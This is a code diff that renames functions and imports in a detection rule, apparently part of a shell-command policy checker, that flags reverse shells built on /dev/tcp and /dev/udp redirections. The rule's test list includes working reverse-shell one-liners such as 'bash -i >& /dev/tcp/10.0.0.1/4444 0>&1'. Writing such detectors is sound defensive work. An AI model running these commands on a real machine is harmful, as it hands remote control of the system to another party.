@@ -9,39 +9,39 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
-from nacre.base.lazy_regex import later
-from nacre.policy.facts.shell_usage import is_shell, piped, takes_orders
-from nacre.policy.rule import DEVICES, Around, Hit, Rule
-from nacre.shell import Command, Opened, Script
+from nacre.base.lazy_regex import lazy_regex
+from nacre.policy.facts.shell_usage import find_pipeline, is_shell, reads_commands_from_pipe
+from nacre.policy.rule import DEVICES, CheckContext, Hit, Rule
+from nacre.shell import Command, Redirection, Script
 from nacre.shell.programs.shells import shell_options
-from nacre.shell.symbolic import least
+from nacre.shell.symbolic import with_unknowns_empty
 from nacre.verdict import Decision
 
-_ADDRESS = later(r"/dev/(?:tcp|udp)/")
+_ADDRESS = lazy_regex(r"/dev/(?:tcp|udp)/")
 
 
-def in_script(script: Script, around: Around) -> tuple[int, int, Hit] | None:
+def match_script(script: Script, around: CheckContext) -> tuple[int, int, Hit] | None:
     lines: set[str] = set()
     """Descriptors that are connections."""
     for command in script.commands:
         if not command.redirects and command.parent is None:
             continue
-        for opened in _opened(command):
+        for opened in _redirections(command):
             address = _ADDRESS.match(opened.target) is not None
             if address and command.name == "exec" and len(command.argv) == 1:
                 if opened.descriptor in ("", "0", "1", "2"):
                     return command.start, command.end, Hit()
                 lines.add(opened.descriptor)
-            elif (address or (opened.operator in ("<&", ">&") and opened.target in lines)) and _obeys(command):
+            elif (address or (opened.operator in ("<&", ">&") and opened.target in lines)) and _reads_commands(command):
                 return command.start, command.end, Hit()
 
     def connected(command: Command) -> bool:
         return any(_ADDRESS.match(each.target) or each.target in lines for each in command.redirects)
 
-    return piped(script, connected, takes_orders)
+    return find_pipeline(script, connected, reads_commands_from_pipe)
 
 
-def _opened(command: Command) -> Iterator[Opened]:
+def _redirections(command: Command) -> Iterator[Redirection]:
     """Its own redirections and those of its wrappers."""
     here: Command | None = command
     while here is not None:
@@ -49,11 +49,11 @@ def _opened(command: Command) -> Iterator[Opened]:
         here = here.parent
 
 
-def _obeys(command: Command) -> bool:
+def _reads_commands(command: Command) -> bool:
     """A shell, `eval`, or a command that only running it would tell."""
     if is_shell(command.name):
         return "c" not in shell_options(command.argv)[0]
-    return command.name == "eval" or (bool(command.argv) and not least(command.argv[0]))
+    return command.name == "eval" or (bool(command.argv) and not with_unknowns_empty(command.argv[0]))
 
 
 RULE = Rule(
@@ -62,7 +62,7 @@ RULE = Rule(
     reason="would let whoever is at the other end work on this machine",
     instead="`timeout 1 bash -c '</dev/tcp/host/port'`, to see whether a port answers",
     commands=(DEVICES,),
-    in_script=in_script,
+    match_script=match_script,
     hits=(
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "sh -i >& /dev/udp/10.0.0.1/4444 0>&1",
